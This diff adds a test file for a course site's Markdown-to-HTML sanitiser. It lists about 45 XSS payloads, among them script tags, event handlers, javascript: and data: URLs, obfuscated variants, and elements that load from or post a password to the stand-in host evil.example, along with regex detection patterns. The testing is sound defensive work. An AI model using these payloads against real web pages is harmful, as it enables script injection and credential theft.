@@ -1,0 +1,96 @@
+import { describe, expect, it } from 'vitest';
+import { renderMarkdown } from '../../server/courses/render-markdown.ts';
+
+const ctx = { assetBase: '/courses/x/assets/', moduleBase: '/courses/x/' };
+
+/** XSS payloads a course file could carry, as raw HTML or as Markdown. */
+const payloads = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="/courses/x/assets/a.png" onerror="alert(1)">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext><script>alert(1)</script></mtext></math>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">clic</a>',
+  '<a href="JaVaScRiPt:alert(1)">clic</a>',
+  '<a href="&#106;avascript:alert(1)">clic</a>',
+  '<a href="java\tscript:alert(1)">clic</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>',
+  '<a href="vbscript:msgbox(1)">clic</a>',
+  '[clic](javascript:alert(1))',
+  '[clic](JAVASCRIPT:alert(1))',
+  '[clic](data:text/html,<script>alert(1)</script>)',
+  '[clic](vbscript:alert(1))',
+  '![x](javascript:alert(1))',
+  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<p style="position:fixed;top:0">faux</p>',
+  '<style>body{display:none}</style>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example"><input name="password"></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<body onload=alert(1)>',
+  '<a href="#" onclick="alert(1)">x</a>',
+  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
+  '<video><source onerror="alert(1)"></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<a href="//evil.example">protocole implicite</a>',
+  '[lien](<javascript:alert(1)>)',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<!--<img src=x onerror=alert(1)>-->',
+  '`<script>` dans du code reste du texte',
+];
+
+const forbidden: [string, RegExp][] = [
+  ['a script tag', /<script/i],
+  ['an event handler attribute', /<[^>]+\son[a-z]+\s*=/i],
+  ['a javascript: URL', /(href|src|action|data|formaction|background)\s*=\s*"?\s*(javascript|vbscript|data):/i],
+  ['a style attribute', /\sstyle\s*=/i],
+  [
+    'an embedding tag',
+    /<(iframe|object|embed|svg|math|style|link|meta|base|form|input|button|video|audio|source|details|body|marquee|noscript)\b/i,
+  ],
+  ['a protocol-relative link', /href="\/\//i],
+];
+
+describe('authored HTML sanitiser', () => {
+  it('has a corpus of at least 30 payloads', () => {
+    expect(payloads.length).toBeGreaterThanOrEqual(30);
+  });
+
+  it.each(payloads)('neutralises %s', (payload) => {
+    const { html } = renderMarkdown(`Avant\n\n${payload}\n\nAprès`, ctx);
+    for (const [what, pattern] of forbidden) {
+      expect(html, `${what} survived in: ${html}`).not.toMatch(pattern);
+    }
+    expect(html).toContain('Avant');
+  });
+
+  it('keeps ordinary formatting, headings with ids and safe links', () => {
+    const { html, toc } = renderMarkdown(
+      '## Les biais liés au statut\n\n**gras** et [site](https://exemple.fr) et [fiche](fichiers/fiche.pdf) et [suite](02-suite.md)\n\n![Atelier](images/a.png)',
+      ctx,
+    );
+    expect(html).toContain('<h2 id="les-biais-liés-au-statut">');
+    expect(toc).toEqual([{ id: 'les-biais-liés-au-statut', text: 'Les biais liés au statut', level: 2 }]);
+    expect(html).toContain('<a href="https://exemple.fr" rel="noopener noreferrer nofollow">site</a>');
+    expect(html).toContain('<a href="/courses/x/assets/fichiers/fiche.pdf">fiche</a>');
+    expect(html).toContain('<a href="/courses/x/suite">suite</a>');
+    expect(html).toContain('<img src="/courses/x/assets/images/a.png" alt="Atelier" loading="lazy" />');
+  });
+
+  it('turns an authored level-1 heading into a level-2 one, keeping a single h1 per page', () => {
+    expect(renderMarkdown('# Titre', ctx).html).toMatch(/^<h2 id="titre">Titre<\/h2>/);
+  });
+});
